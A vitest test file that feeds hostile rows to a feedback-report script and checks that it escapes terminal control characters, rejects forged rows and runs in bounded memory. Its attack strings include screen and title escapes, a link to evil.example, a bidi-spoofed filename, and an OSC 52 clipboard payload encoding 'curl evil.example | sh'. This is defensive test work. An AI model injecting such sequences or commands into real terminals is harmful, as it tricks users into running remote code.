/**
 * `npm run feedback:report` over stores an attacker wrote into (rows imported
 * from the earlier file were never checked): its bytes hold no terminal
 * control, a page cannot forge a row, bad rows are skipped and counted, and
 * a large store is read in constant memory.
 */
import {spawnSync} from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';
import {repoRoot} from '../../lib/paths';
import {openStateStore} from '../../lib/store/state-store';
import type {FeedbackTable} from '../../lib/store/tables';
import type {Insertable} from 'kysely';

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'feedback-report-'));
afterAll(() => fs.rmSync(scratch, {recursive: true, force: true}));

async function storeWith(name: string, rows: Iterable<Insertable<FeedbackTable>>): Promise<string> {
  const file = path.join(scratch, `${name}.sqlite`);
  const state = await openStateStore({file});
  await state.db.transaction().execute(async (trx) => {
    let batch: Insertable<FeedbackTable>[] = [];
    for (const row of rows) {
      batch.push(row);
      if (batch.length === 500) {
        await trx.insertInto('feedback').values(batch).execute();
        batch = [];
      }
    }
    if (batch.length) await trx.insertInto('feedback').values(batch).execute();
  });
  await state.close();
  return file;
}

function report(file: string, nodeOptions = '') {
  const result = spawnSync(process.execPath, [path.join(repoRoot, 'node_modules/tsx/dist/cli.mjs'), 'scripts/feedback-report.ts'], {
    cwd: repoRoot,
    env: {...process.env, PORTAL_DATABASE_URL: '', PORTAL_DATABASE_FILE: file, NODE_OPTIONS: nodeOptions},
    maxBuffer: 64 * 1024 * 1024,
  });
  expect(result.status, result.stderr.toString()).toBe(0);
  return result.stdout;
}

const at = '2026-12-01T10:00:00.000Z';
const row = (fields: Partial<Insertable<FeedbackTable>>): Insertable<FeedbackTable> => ({
  received_at: at,
  source: 'page',
  page: '/api/overview',
  helpful: null,
  comment: null,
  ...fields,
});

describe('npm run feedback:report', () => {
  it(
    'shows escape sequences in every field as text: no ESC, BEL, C1 or bidi control reaches the terminal, and no row is forged',
    {timeout: 60_000},
    async () => {
      const attacks = [
        '\u001b[2J\u001b[H', // clear the screen
        '\u001b]0;pwned\u0007', // set the title
        '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', // write the clipboard
        '\u001b]8;;https://evil.example\u001b\\click me\u001b]8;;\u001b\\', // a hyperlink
        '\u009b2J\u009d0;c1 title\u009c', // the same in C1
        'invoice.\u202etxt.exe\u2066\u200f\u061c',
      ];
      const forged = '    9     9        9  /forged';
      const file = await storeWith('hostile', [
        ...attacks.map((attack) => row({page: `/api/${attack}`, helpful: 0, comment: `Look: ${attack}`})),
        row({page: `/api/overview\n${forged}`, helpful: 1}),
        row({received_at: `${at}\u001b[31m`, comment: 'a date that is no date'}),
      ]);
      const bytes = report(file);
      const text = bytes.toString('utf8');
      expect(bytes.includes(0x1b)).toBe(false);
      expect(bytes.includes(0x07)).toBe(false);
      // eslint-disable-next-line no-control-regex -- control characters are what it looks for
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
      expect(text.split('\n')).not.toContain(forged);
      expect(text).toContain(`/api/overview\\u{000A}${forged}`);
      expect(text).toContain('Look: \\u{001B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{0007}');
      expect(text).toContain('Skipped 1 row(s) that were not whole entries.');
      expect(text).toContain(`Feedback on 7 page(s), 7 submission(s)`);
    },
  );

  it('reads a large store in bounded memory, skipping and counting its bad rows', {timeout: 300_000}, async () => {
    const comment = 'x'.repeat(1000);
    function* rows(): Generator<Insertable<FeedbackTable>> {
      for (let index = 0; index < 100_000; index += 1) {
        if (index % 1000 === 0) yield row({source: 'forged', comment});
        else if (index % 1000 === 1) yield row({helpful: 7});
        else yield row({page: `/api/page-${index % 50}`, helpful: index % 2, comment: `${index} ${comment}`});
      }
    }
    const file = await storeWith('large', rows());
    // Some 200 MB of text in memory at once were the rows read whole; the report runs in a quarter of that.
    const text = report(file, '--max-old-space-size=48').toString('utf8');
    expect(text).toContain('Feedback on 50 page(s), 99800 submission(s)');
    expect(text).toContain('Skipped 200 row(s) that were not whole entries.');
    expect(text).toContain('Latest comments (20):');
    expect(text).toContain(`99999 ${comment}`);
  });
});
